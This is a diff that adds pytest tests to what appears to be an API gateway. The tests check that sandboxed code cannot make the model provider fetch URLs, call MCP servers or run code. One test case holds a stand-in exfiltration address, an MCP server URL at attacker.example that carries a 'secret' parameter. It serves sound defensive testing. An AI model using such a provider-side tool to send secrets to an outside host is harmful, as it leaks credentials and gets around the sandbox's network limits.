@@ -265,3 +265,34 @@ async def test_a_cli_that_hangs_up_mid_answer_still_pays_for_what_was_asked(gate
             break
         await asyncio.sleep(0.05)
     assert [u.input_tokens for u in usage] == [10]  # message_start's count: asked, so paid
+
+
+@pytest.mark.parametrize("headers, body", [
+    ({"anthropic-beta": "mcp-client-2025-04-04"}, {}),
+    ({"anthropic-beta": "interleaved-thinking-2025-05-14, web-fetch-2025-09-10"}, {}),
+    ({}, {"mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp?d=secret"}]}),
+    ({}, {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
+    ({}, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
+    ({}, {"tools": [{"type": "code_execution_20250522", "name": "code_execution"}]}),
+    ({}, {"container": "container_abc"}),
+])  # fmt: skip
+async def test_the_provider_reaches_no_network_for_the_sandbox(gateway, upstream, headers,
+                                                               body):  # fmt: skip
+    """Code in a sandbox with no network must not have the provider fetch a URL, call an
+    MCP server or run code for it (with the deployment's key, outside the budget)."""
+    metered_into(gateway)
+    request = {"model": "claude-haiku-4-5", "max_tokens": 50, "messages": [], **body}
+    status, _, answer = await call(gateway, body=request, headers=headers)
+    assert status == 400 and "not available" in json.loads(answer)["error"]["message"]
+    assert upstream.requests == []
+
+
+async def test_client_tools_and_harmless_betas_still_pass(gateway, upstream):
+    metered_into(gateway)
+    upstream.enqueue(message_reply("fine"))
+    request = {"model": "claude-haiku-4-5", "max_tokens": 50, "messages": [],
+               "tools": [{"name": "Bash", "input_schema": {"type": "object"}}]}  # fmt: skip
+    status, _, _ = await call(
+        gateway, body=request, headers={"anthropic-beta": "interleaved-thinking-2025-05-14"}
+    )
+    assert status == 200 and len(upstream.requests) == 1
